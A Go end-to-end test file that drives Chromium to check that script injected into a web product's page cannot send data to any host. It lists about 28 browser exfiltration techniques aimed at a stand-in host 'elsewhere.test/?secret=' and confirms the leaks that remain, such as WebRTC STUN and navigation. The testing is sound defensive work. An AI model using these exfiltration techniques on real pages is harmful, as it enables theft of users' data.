//go:build !js

package e2e

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"uarweb/serve"
	"uarweb/weights/model"
)

// waysOut are what a script in the page could try, to send something to another
// host or to the page's own. Each is an expression in which foreign and own are
// the beginnings of addresses; a promise of one is waited for.
var waysOut = []struct{ name, try string }{
	{"fetch", "fetch(foreign + 'fetch', {mode: 'no-cors'})"},
	{"fetch with a body", "fetch(own + 'post', {method: 'POST', body: 'secret'})"},
	{"fetch of the own host", "fetch(own + 'fetch')"},
	{"XMLHttpRequest", "new Promise((done, failed) => { const r = new XMLHttpRequest(); r.onload = done; r.onerror = () => failed('error'); r.open('POST', own + 'xhr'); r.send('secret'); })"},
	{"beacon", "navigator.sendBeacon(foreign + 'beacon', 'secret') && navigator.sendBeacon(own + 'beacon', 'secret')"},
	{"EventSource", "settled(new EventSource(foreign + 'events'), 'open')"},
	{"WebSocket", "settled(new WebSocket(foreign.replace('http', 'ws') + 'socket'), 'open')"},
	{"WebSocket to the own host", "settled(new WebSocket(own.replace('http', 'ws') + 'socket'), 'open')"},
	{"WebTransport", "new WebTransport(foreign.replace('http:', 'https:') + 'transport').ready"},
	{"image", "settled(Object.assign(new Image(), {src: foreign + 'image'}))"},
	{"script", "element('script', {src: foreign + 'script'})"},
	{"module", "import(foreign + 'module')"},
	{"style", "element('link', {rel: 'stylesheet', href: foreign + 'style'})"},
	{"url() of a style", "document.body.style.setProperty('background-image', `url(${foreign}css)`)"},
	{"font", "new FontFace('x', `url(${foreign}font)`).load()"},
	{"video", "element('video', {src: foreign + 'video'})"},
	{"object", "element('object', {data: foreign + 'object'})"},
	{"frame", "element('iframe', {src: foreign + 'frame'})"},
	{"worker", "settled(new Worker(foreign + 'worker'))"},
	{"service worker", "navigator.serviceWorker.register(foreign + 'service-worker')"},
	{"prefetch", "element('link', {rel: 'prefetch', href: foreign + 'prefetch'})"},
	{"preload", "element('link', {rel: 'preload', as: 'image', href: foreign + 'preload'})"},
	{"preconnect", "element('link', {rel: 'preconnect', href: foreign})"},
	{"looking up a name", "element('link', {rel: 'dns-prefetch', href: foreign})"},
	{"speculation rules", "element('script', {type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [foreign + 'speculation', own + 'speculation']}]})})"},
	{"form", "element('form', {action: foreign + 'form', method: 'post'}).then((f) => f.submit())"},
	{"ping of a link", "element('a', {ping: foreign + 'ping ' + own + 'ping', href: '#'}).then((a) => a.click())"},
	{"other policy", "element('meta', {httpEquiv: 'Content-Security-Policy', content: `default-src *; report-uri ${foreign}report`}).then(() => fetch(foreign + 'policy', {mode: 'no-cors'}))"},
}

const helpers = `
	const settled = (target, good = "load") => new Promise((done, failed) => {
		target.addEventListener(good, () => done("reached"));
		target.addEventListener("error", () => failed("error"));
		setTimeout(() => failed("nothing"), 2000);
	});
	const element = async (name, properties) => {
		const e = Object.assign(document.createElement(name), properties);
		document.body.append(e);
		await settled(e).catch(() => {});
		return e;
	};`

// A script that gets into the page finds no way out of it by any request: all that
// is asked of anyone, while the product is used and after, are GETs of files of the
// manifest, without a query or a body. serve/SECURITY.md says what this cannot hold.
func TestNoEgress(t *testing.T) {
	t.Parallel()
	var mu sync.Mutex
	var foreign, own []string
	proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		foreign = append(foreign, r.Method+" "+r.Host+" "+r.URL.Path)
		w.WriteHeader(http.StatusForbidden)
	}))
	t.Cleanup(proxy.Close)
	h := newHost(t)
	site := product(t, model.FS)
	h.serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		sent, err := io.ReadAll(r.Body)
		mu.Lock()
		own = append(own, fmt.Sprintf("%s %s %d %v", r.Method, r.URL.RequestURI(), len(sent), err))
		mu.Unlock()
		site.ServeHTTP(w, r)
	}))
	b, err := startChromium(t, t.TempDir(), chromedp.ProxyServer(proxy.URL))
	require.NoError(t, err)
	t.Cleanup(b.Close)
	v := visit{t, b}
	require.NoError(t, v.Navigate("http://"+h.address))
	v.wait(`page.dataset.model === "ready"`)
	v.report()
	v.wait(`document.getElementById("offline").dataset.copy === "whole"`)

	for _, way := range waysOut {
		ended := v.text(fmt.Sprintf(`(async () => { %s
			const foreign = "http://elsewhere.test/?secret=", own = location.origin + "/?secret=";
			try { return "ended: " + await (%s); } catch (error) { return "refused: " + (error?.message ?? error); }
		})()`, helpers, way.try))
		t.Logf("%-26s %s", way.name, ended)
	}
	time.Sleep(time.Second) // for what goes out behind the page's back

	var manifest serve.Manifest
	require.NoError(t, json.Unmarshal(get(t, site, "/files.json"), &manifest))
	listed := map[string]bool{"GET / 0 <nil>": true, "GET /service-worker.js 0 <nil>": true}
	for _, f := range manifest.Files {
		listed["GET /"+f.Path+" 0 <nil>"] = true
	}
	mu.Lock()
	defer mu.Unlock()
	left := 0
	for _, request := range own {
		if !assert.True(t, listed[request], request) {
			left++
		}
	}
	for _, request := range foreign {
		if !assert.False(t, strings.Contains(request, "elsewhere.test"), request) {
			left++
		}
	}
	t.Attr("left", fmt.Sprint(left))
}

// get is what a handler answers with at a path.
func get(t *testing.T, h http.Handler, path string) []byte {
	t.Helper()
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, nil))
	require.Equal(t, http.StatusOK, w.Code)
	return w.Body.Bytes()
}

// What no policy can hold, so that SECURITY.md says no more than is true: a script
// in the page can still have WebRTC look for its peers, ask the own server for a
// picture, and lead the browser elsewhere.
func TestKnownEgress(t *testing.T) {
	t.Parallel()
	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { _ = udp.Close() })
	b, err := startChromium(t, t.TempDir())
	require.NoError(t, err)
	t.Cleanup(b.Close)
	v := visit{t, b}
	h := newHost(t)
	shards, _ := tiny(t)
	h.serve(below(t, serve.Site(), shards))
	product(t, shards)
	require.NoError(t, v.Navigate("http://"+h.address+subPath))
	v.wait(`page.dataset.model === "ready"`)
	v.text(fmt.Sprintf(`(async () => {
		globalThis.peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:%s" }] });
		peer.createDataChannel("x");
		await peer.setLocalDescription(await peer.createOffer());
		return "";
	})()`, udp.LocalAddr()))
	require.NoError(t, udp.SetReadDeadline(time.Now().Add(patience)))
	_, _, err = udp.ReadFrom(make([]byte, 1500))
	assert.NoError(t, err, "WebRTC is kept in by now: say so in SECURITY.md")

	h.requests()
	v.text(`(new Image().src = "image?secret", "")`)
	require.Eventually(t, func() bool { return slices.Contains(h.requests(), "GET "+subPath+"image?secret") }, patience, 20*time.Millisecond)
	require.NoError(t, v.Navigate("http://"+h.address+"/elsewhere?secret"))
	assert.Contains(t, h.requests(), "GET /elsewhere?secret")
}
